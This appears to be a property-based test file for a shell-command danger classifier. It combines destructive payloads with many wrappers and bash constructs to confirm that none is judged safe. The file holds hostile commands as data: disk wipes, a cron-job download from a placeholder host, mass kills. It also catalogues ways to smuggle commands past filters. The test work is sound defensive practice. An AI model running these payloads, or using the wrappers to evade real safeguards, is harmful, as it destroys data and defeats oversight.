"""Every place bash runs a command: a dangerous payload, run through any wrapper, in any position, is never safe.

The product of :data:`WRAPPERS` x :data:`POSITIONS` x :data:`PAYLOADS` (thousands of commands) is checked whole;
hypothesis then nests wrappers and positions in each other at random.
"""

from __future__ import annotations

import shlex

import pytest
from hermes_plugin_terminal.danger import Level, classify
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

#: Dangerous commands without quotes or backticks, so that every template can hold them.
PAYLOADS: list[str] = [
    "rm -rf /",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/sda",
    "chmod -R 777 /",
    "git push --force origin main",
    "wget -O /etc/cron.d/job https://x.example/job",
    "kill -9 -1",
    "shutdown -h now",
]

#: How a command is run by another program: ``{p}`` is the command as words, ``{q}`` quoted as one word,
#: ``{bang}`` quoted with a leading ``!`` (an editor's shell escape).
WRAPPERS: list[str] = [
    "{p}", "sudo {p}", "sudo -u root {p}", "sudo -E -H {p}", "sudo --unknown-option value {p}", "doas {p}",
    "doas -u root {p}", "env {p}", "env X=1 {p}", "env -i PATH=/bin {p}", "env -S {q}", "nice {p}", "nice -n 5 {p}",
    "ionice -c3 {p}", "nohup {p}", "setsid {p}", "time {p}", "timeout 5 {p}", "timeout -s KILL 5 {p}", "exec {p}",
    "command {p}", "stdbuf -oL {p}", "unbuffer {p}", "strace -f {p}", "ltrace {p}", "echo x | xargs {p}",
    "watch {p}", "watch -n 1 {q}", "flock /run/l {p}", "flock /run/l -c {q}", "chroot / {p}", "taskset 1 {p}",
    "chrt -f 1 {p}", "caffeinate {p}", "torsocks {p}", "proxychains4 {p}", "nsenter -t 1 -m {p}",
    "unshare -r {p}", "setpriv --reuid 0 {p}", "systemd-run {p}", "systemd-run --unit x --scope {p}",
    "script -qc {q} /dev/null", "script -c {q}", "at now <<< {q}", "echo {q} | at now", "batch <<< {q}",
    "sg root {q}", "dbus-run-session {p}", "xvfb-run {p}", "fakeroot {p}", "firejail {p}",
    "bwrap --bind / / {p}", "valgrind {p}", "ssh-agent {p}", "cpulimit -l 50 -- {p}", "prlimit --nofile=10 {p}",
    "numactl -C 0 {p}", "gosu root {p}", "pkexec {p}", "runuser -u root -- {p}", "runuser root -c {q}",
    "su -c {q}", "su root -c {q}", "su - root -c {q}", "su <<< {q}", "su - <<< {q}", "echo {q} | su",
    "sudo -s <<< {q}", "sudo -i <<< {q}", "sudo --login <<< {q}", "sudo su <<< {q}", "sudo -s {p}",
    "doas -s <<< {q}", "pkexec <<< {q}", "bash -c {q}", "sh -c {q}", "bash -lc {q}", "zsh -c {q}", "dash -c {q}",
    "/bin/bash5.2 -c {q}", "bash <<< {q}", "sh <<< {q}", "echo {q} | sh", "echo {q} | bash -s",
    "bash -s <<< {q}", "eval {q}", "eval {p}", "coproc {p}", "tmux new-session -d {q}", "tmux new -d -s x {q}",
    "tmux new-window {q}", "tmux split-window -h {q}", "tmux run-shell {q}", "tmux send-keys -t x {q} Enter",
    "screen -dm {p}", "screen -S x -dm {p}", "screen -S x -X stuff {q}", "parallel {p} ::: x",
    "parallel ::: {q}", "echo {q} | parallel", "find . -exec {p} \\;", "find . -maxdepth 0 -exec sh -c {q} \\;",
    "fd -x {p}", "xargs sh -c {q} < /dev/null", "ssh host {q}", "ssh host {p}", "ssh host <<< {q}",
    "docker exec c sh -c {q}", "kubectl exec p -- sh -c {q}", "docker exec -i c sh <<< {q}", "vim -c {bang}",
    "ex -sc {bang}", "rview -c {bang}", "vi -es <<< {bang}", "echo {bang} | ed", "git -c core.pager={q} log",
    "PAGER={q} git log", "man -P {q} ls", "trap {q} EXIT", "hyperfine {q}", "tar -xf x.tar --to-command={q}",
    "rsync -e {q} a b:c", "ssh -o ProxyCommand={q} host", "ls | entr -s {q}", "xterm -e {p}",
    "gnome-terminal -- {p}", "busybox sh -c {q}", "grm -rf /dev/null; {p}",
]

#: Where bash runs a command: ``{}`` is the command.
POSITIONS: list[str] = [
    "{}", "true; {}", "true && {}", "false || {}", "{} &", "true | {}", "{} | cat", "( {} )", "{{ {}; }}",
    "! {}", "echo $( {} )", 'echo "$( {} )"', "echo `{}`", "cat <( {} )", "diff <( {} ) <(true)",
    "tee >( {} ) < /dev/null", "if true; then {}; fi", "if {}; then true; fi", "while {}; do break; done",
    "until {}; do break; done", "for i in 1; do {}; done", "for (( i=0; i<1; i++ )); do {}; done",
    "case a in a) {};; esac", "select x in a; do {}; break; done", "f() {{ {}; }}; f", "function f {{ {}; }}; f",
    "x=$( {} )", 'export Y="$( {} )"', 'declare Z="$( {} )"', '[[ -n "$( {} )" ]]', "(( $( {} ) ))",
    "echo ${{x:-$( {} )}}", "cat <<EOF\n$( {} )\nEOF", "cat <<EOF\n`{}`\nEOF", 'cat <<< "$( {} )"',
    "bash <<'EOF'\n{}\nEOF", "coproc {{ {}; }}", "coproc NAME {{ {}; }}", "time {}", "exec 3< <( {} )",
]


def compose(wrapper: str, payload: str) -> str:
    return wrapper.format(p=payload, q=shlex.quote(payload), bang=shlex.quote(f"!{payload}"))


@pytest.mark.parametrize("position", POSITIONS, ids=[p.replace("\n", "\\n")[:40] for p in POSITIONS])
def test_no_wrapped_payload_is_safe_in_any_position(position: str) -> None:
    safe = [command for wrapper in WRAPPERS for payload in PAYLOADS
            if classify(command := position.format(compose(wrapper, payload))).level is Level.SAFE]
    assert not safe, f"{len(safe)} safe, e.g. {safe[:5]}"


def test_the_product_is_thousands_of_commands() -> None:
    assert len(WRAPPERS) * len(POSITIONS) * len(PAYLOADS) >= 10_000


#: Positions that hold any command text, however it is quoted (no backticks, which do not nest unescaped).
_NESTING_POSITIONS = [p for p in POSITIONS if "`" not in p and '"' not in p and "'EOF'" not in p] + [
    "bash -c {q}", "sh -c {q}", "eval {q}", "su -c {q}", "sudo -s <<< {q}", "echo {q} | bash"]


_OPERATORS = frozenset("|<>;&")
#: Wrappers that join their words and parse them again (so quotes inside the words are lost).
_REPARSING = frozenset({"ssh host {p}", "eval {p}"})


def _nest(command: str, position: str) -> str:
    return position.format(command, q=shlex.quote(command))


@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(payload=st.sampled_from(PAYLOADS),
       layers=st.lists(st.tuples(st.sampled_from(WRAPPERS), st.sampled_from(_NESTING_POSITIONS)),
                       min_size=1, max_size=3))
def test_nested_wrappers_and_positions_never_make_a_payload_safe(payload: str,
                                                                  layers: list[tuple[str, str]]) -> None:
    command, simple = payload, True
    for wrapper, position in layers:
        if wrapper in _REPARSING and command != payload:  # its words are joined and parsed again: quote them
            wrapper = wrapper.replace("{p}", "{q}")
        elif "{p}" in wrapper and not simple:  # words of a compound command are no command: hand it to a shell
            command = f"sh -c {shlex.quote(command)}"
        # a pipe or a redirection of the wrapper's own makes the result more than one simple command
        command, simple = _nest(compose(wrapper, command), position), position == "{}" and not _OPERATORS & set(wrapper)
    assert classify(command).level is not Level.SAFE, command


@pytest.mark.parametrize("template", [
    "[[ 1 -eq 'a[$({})]' ]]", "let 'a[$({})]'", "declare -i n='a[$({})]'", "x='a[$({})]'; echo $((x))",
    "test -v 'a[$({})]'", "printf -v 'a[$({})]' x", "read 'a[`{}`]' <<< 1",
])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_quoted_array_subscript_bash_evaluates_is_not_safe(template: str, payload: str) -> None:
    assert classify(template.format(payload)).level is not Level.SAFE
